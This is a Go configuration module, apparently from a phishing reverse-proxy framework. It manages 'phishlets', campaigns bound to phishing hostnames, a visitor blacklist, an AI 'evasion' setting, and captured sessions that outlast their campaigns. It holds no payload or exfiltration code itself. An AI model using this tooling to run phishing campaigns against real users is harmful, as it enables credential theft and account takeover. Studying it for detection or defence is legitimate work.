package core

import (
	"fmt"
	"path/filepath"
	"strings"

	"github.com/spf13/viper"

	"github.com/snarelabs/snare/log"
)

var BLACKLIST_MODES = []string{"all", "unauth", "off"}

// Campaign binds a loaded phishlet to a phishing hostname. Only active
// campaigns are routable; sessions outlive the campaign that created them.
type Campaign struct {
	Id          string `mapstructure:"id" json:"id" yaml:"id"`
	Phishlet    string `mapstructure:"phishlet" json:"phishlet" yaml:"phishlet"`
	Hostname    string `mapstructure:"hostname" json:"hostname" yaml:"hostname"`
	RedirectUrl string `mapstructure:"redirect_url" json:"redirect_url" yaml:"redirect_url"`
	Active      bool   `mapstructure:"active" json:"active" yaml:"active"`
}

type ProxyConfig struct {
	Type     string `mapstructure:"type" json:"type" yaml:"type"`
	Address  string `mapstructure:"address" json:"address" yaml:"address"`
	Port     int    `mapstructure:"port" json:"port" yaml:"port"`
	Username string `mapstructure:"username" json:"username" yaml:"username"`
	Password string `mapstructure:"password" json:"password" yaml:"password"`
	Enabled  bool   `mapstructure:"enabled" json:"enabled" yaml:"enabled"`
}

type BlacklistConfig struct {
	Mode string `mapstructure:"mode" json:"mode" yaml:"mode"`
}

type CertificatesConfig struct {
	AcmeEmail          string `mapstructure:"acme_email" json:"acme_email" yaml:"acme_email"`
	CloudflareApiToken string `mapstructure:"cf_api_token" json:"cf_api_token" yaml:"cf_api_token"`
}

type AIConfig struct {
	Enabled        bool    `mapstructure:"enabled" json:"enabled" yaml:"enabled"`
	Endpoint       string  `mapstructure:"endpoint" json:"endpoint" yaml:"endpoint"`
	ApiKey         string  `mapstructure:"api_key" json:"api_key" yaml:"api_key"`
	TimeoutMs      int     `mapstructure:"timeout_ms" json:"timeout_ms" yaml:"timeout_ms"`
	BlockThreshold float64 `mapstructure:"block_threshold" json:"block_threshold" yaml:"block_threshold"`
	ModifyEnabled  bool    `mapstructure:"modify_enabled" json:"modify_enabled" yaml:"modify_enabled"`
	EvasionType    string  `mapstructure:"evasion_type" json:"evasion_type" yaml:"evasion_type"`
}

type RedisConfig struct {
	Enabled  bool   `mapstructure:"enabled" json:"enabled" yaml:"enabled"`
	Address  string `mapstructure:"address" json:"address" yaml:"address"`
	Password string `mapstructure:"password" json:"password" yaml:"password"`
	DB       int    `mapstructure:"db" json:"db" yaml:"db"`
	TtlHours int    `mapstructure:"ttl_hours" json:"ttl_hours" yaml:"ttl_hours"`
}

type ApiConfig struct {
	Enabled bool   `mapstructure:"enabled" json:"enabled" yaml:"enabled"`
	Port    int    `mapstructure:"port" json:"port" yaml:"port"`
	Token   string `mapstructure:"token" json:"token" yaml:"token"`
}

type GeneralConfig struct {
	Domain       string `mapstructure:"domain" json:"domain" yaml:"domain"`
	ExternalIpv4 string `mapstructure:"external_ipv4" json:"external_ipv4" yaml:"external_ipv4"`
	BindIpv4     string `mapstructure:"bind_ipv4" json:"bind_ipv4" yaml:"bind_ipv4"`
	HttpsPort    int    `mapstructure:"https_port" json:"https_port" yaml:"https_port"`
	DnsPort      int    `mapstructure:"dns_port" json:"dns_port" yaml:"dns_port"`
	Autocert     bool   `mapstructure:"autocert" json:"autocert" yaml:"autocert"`
}

type Config struct {
	general         *GeneralConfig
	certificates    *CertificatesConfig
	proxyConfig     *ProxyConfig
	blacklistConfig *BlacklistConfig
	aiConfig        *AIConfig
	redisConfig     *RedisConfig
	apiConfig       *ApiConfig
	campaigns       []*Campaign
	phishlets       map[string]*Phishlet
	phishletNames   []string
	cfg             *viper.Viper
}

const (
	CFG_GENERAL      = "general"
	CFG_CERTIFICATES = "certificates"
	CFG_PROXY        = "proxy"
	CFG_BLACKLIST    = "blacklist"
	CFG_AI           = "ai"
	CFG_REDIS        = "redis"
	CFG_API          = "api"
	CFG_CAMPAIGNS    = "campaigns"
)

func NewConfig(cfg_dir string) (*Config, error) {
	c := &Config{
		general:         &GeneralConfig{},
		certificates:    &CertificatesConfig{},
		proxyConfig:     &ProxyConfig{},
		blacklistConfig: &BlacklistConfig{Mode: "unauth"},
		aiConfig:        &AIConfig{TimeoutMs: 3000, BlockThreshold: 0.8},
		redisConfig:     &RedisConfig{TtlHours: 24},
		apiConfig:       &ApiConfig{Port: 8443},
		campaigns:       []*Campaign{},
		phishlets:       make(map[string]*Phishlet),
		phishletNames:   []string{},
	}

	c.cfg = viper.New()
	c.cfg.SetConfigType("json")
	c.cfg.SetConfigName("config")
	c.cfg.AddConfigPath(cfg_dir)

	c.cfg.SetDefault(CFG_GENERAL, c.general)
	c.cfg.SetDefault(CFG_CERTIFICATES, c.certificates)
	c.cfg.SetDefault(CFG_PROXY, c.proxyConfig)
	c.cfg.SetDefault(CFG_BLACKLIST, c.blacklistConfig)
	c.cfg.SetDefault(CFG_AI, c.aiConfig)
	c.cfg.SetDefault(CFG_REDIS, c.redisConfig)
	c.cfg.SetDefault(CFG_API, c.apiConfig)
	c.cfg.SetDefault(CFG_CAMPAIGNS, c.campaigns)

	if err := c.cfg.ReadInConfig(); err != nil {
		if _, ok := err.(viper.ConfigFileNotFoundError); ok {
			log.Debug("config file not found, using defaults")
			c.cfg.SetConfigFile(filepath.Join(cfg_dir, "config.json"))
		} else {
			log.Error("config file error: %v", err)
		}
	}

	c.cfg.UnmarshalKey(CFG_GENERAL, c.general)
	c.cfg.UnmarshalKey(CFG_CERTIFICATES, c.certificates)
	c.cfg.UnmarshalKey(CFG_PROXY, c.proxyConfig)
	c.cfg.UnmarshalKey(CFG_BLACKLIST, c.blacklistConfig)
	c.cfg.UnmarshalKey(CFG_AI, c.aiConfig)
	c.cfg.UnmarshalKey(CFG_REDIS, c.redisConfig)
	c.cfg.UnmarshalKey(CFG_API, c.apiConfig)
	c.cfg.UnmarshalKey(CFG_CAMPAIGNS, &c.campaigns)

	if c.general.HttpsPort == 0 {
		c.general.HttpsPort = 443
	}
	if c.general.DnsPort == 0 {
		c.general.DnsPort = 53
	}
	return c, nil
}

func (c *Config) SaveConfig() {
	c.cfg.WriteConfig()
}

func (c *Config) GetServerBindIP() string {
	return c.general.BindIpv4
}

func (c *Config) GetHttpsPort() int {
	return c.general.HttpsPort
}

func (c *Config) GetDnsPort() int {
	return c.general.DnsPort
}

func (c *Config) GetBaseDomain() string {
	return c.general.Domain
}

func (c *Config) GetExternalIpv4() string {
	return c.general.ExternalIpv4
}

func (c *Config) IsAutocertEnabled() bool {
	return c.general.Autocert
}

func (c *Config) SetBaseDomain(domain string) {
	c.general.Domain = domain
	c.cfg.Set(CFG_GENERAL, c.general)
	log.Info("server domain set to: %s", domain)
	c.SaveConfig()
}

func (c *Config) SetExternalIpv4(ip string) {
	c.general.ExternalIpv4 = ip
	c.cfg.Set(CFG_GENERAL, c.general)
	log.Info("external ipv4 set to: %s", ip)
	c.SaveConfig()
}

func (c *Config) SetBlacklistMode(mode string) {
	if stringExists(mode, BLACKLIST_MODES) {
		c.blacklistConfig.Mode = mode
		c.cfg.Set(CFG_BLACKLIST, c.blacklistConfig)
		c.SaveConfig()
	}
	log.Info("blacklist mode set to: %s", mode)
}

func (c *Config) GetBlacklistMode() string {
	return c.blacklistConfig.Mode
}

func (c *Config) GetCertificatesConfig() *CertificatesConfig {
	return c.certificates
}

func (c *Config) GetProxyConfig() *ProxyConfig {
	return c.proxyConfig
}

func (c *Config) GetAIConfig() *AIConfig {
	return c.aiConfig
}

func (c *Config) GetRedisConfig() *RedisConfig {
	return c.redisConfig
}

func (c *Config) GetApiConfig() *ApiConfig {
	return c.apiConfig
}

// AddPhishlet registers a loaded phishlet under its declared name.
func (c *Config) AddPhishlet(pl *Phishlet) {
	if _, ok := c.phishlets[pl.Name]; !ok {
		c.phishletNames = append(c.phishletNames, pl.Name)
	}
	c.phishlets[pl.Name] = pl
}

func (c *Config) GetPhishlet(name string) (*Phishlet, error) {
	pl, ok := c.phishlets[name]
	if !ok {
		return nil, fmt.Errorf("phishlet not found: %s", name)
	}
	return pl, nil
}

func (c *Config) GetPhishletNames() []string {
	return c.phishletNames
}

func (c *Config) GetCampaigns() []*Campaign {
	return c.campaigns
}

func (c *Config) GetCampaign(id string) (*Campaign, error) {
	for _, cm := range c.campaigns {
		if cm.Id == id {
			return cm, nil
		}
	}
	return nil, fmt.Errorf("campaign not found: %s", id)
}

// GetCampaignByHost matches an incoming phishing hostname to an active
// campaign. Only active campaigns route traffic.
func (c *Config) GetCampaignByHost(host string) *Campaign {
	host = strings.ToLower(host)
	for _, cm := range c.campaigns {
		if !cm.Active {
			continue
		}
		if host == cm.Hostname || strings.HasSuffix(host, "."+cm.Hostname) {
			return cm
		}
	}
	return nil
}

func (c *Config) AddCampaign(cm *Campaign) error {
	if cm.Phishlet == "" || cm.Hostname == "" {
		return fmt.Errorf("campaign requires a phishlet and a hostname")
	}
	if _, err := c.GetPhishlet(cm.Phishlet); err != nil {
		return err
	}
	if c.general.Domain != "" && cm.Hostname != c.general.Domain && !strings.HasSuffix(cm.Hostname, "."+c.general.Domain) {
		return fmt.Errorf("campaign hostname must end with '%s'", c.general.Domain)
	}
	for _, o := range c.campaigns {
		if o.Hostname == cm.Hostname && o.Active && cm.Active {
			return fmt.Errorf("hostname already in use by campaign: %s", o.Id)
		}
	}
	if cm.Id == "" {
		cm.Id = GenRandomString(8)
	}
	c.campaigns = append(c.campaigns, cm)
	c.SaveCampaigns()
	log.Info("campaign '%s' created for phishlet '%s' at %s", cm.Id, cm.Phishlet, cm.Hostname)
	return nil
}

func (c *Config) SetCampaignActive(id string, active bool) error {
	cm, err := c.GetCampaign(id)
	if err != nil {
		return err
	}
	if active {
		for _, o := range c.campaigns {
			if o.Id != id && o.Active && o.Hostname == cm.Hostname {
				return fmt.Errorf("hostname already in use by campaign: %s", o.Id)
			}
		}
	}
	cm.Active = active
	c.SaveCampaigns()
	if active {
		log.Important("campaign '%s' is now live at %s", cm.Id, cm.Hostname)
	} else {
		log.Info("campaign '%s' stopped", cm.Id)
	}
	return nil
}

// DeleteCampaign removes the campaign definition. Sessions it produced are
// retained in storage.
func (c *Config) DeleteCampaign(id string) error {
	for i, cm := range c.campaigns {
		if cm.Id == id {
			c.campaigns = append(c.campaigns[:i], c.campaigns[i+1:]...)
			c.SaveCampaigns()
			log.Info("campaign '%s' deleted", id)
			return nil
		}
	}
	return fmt.Errorf("campaign not found: %s", id)
}

func (c *Config) SaveCampaigns() {
	c.cfg.Set(CFG_CAMPAIGNS, c.campaigns)
	c.SaveConfig()
}
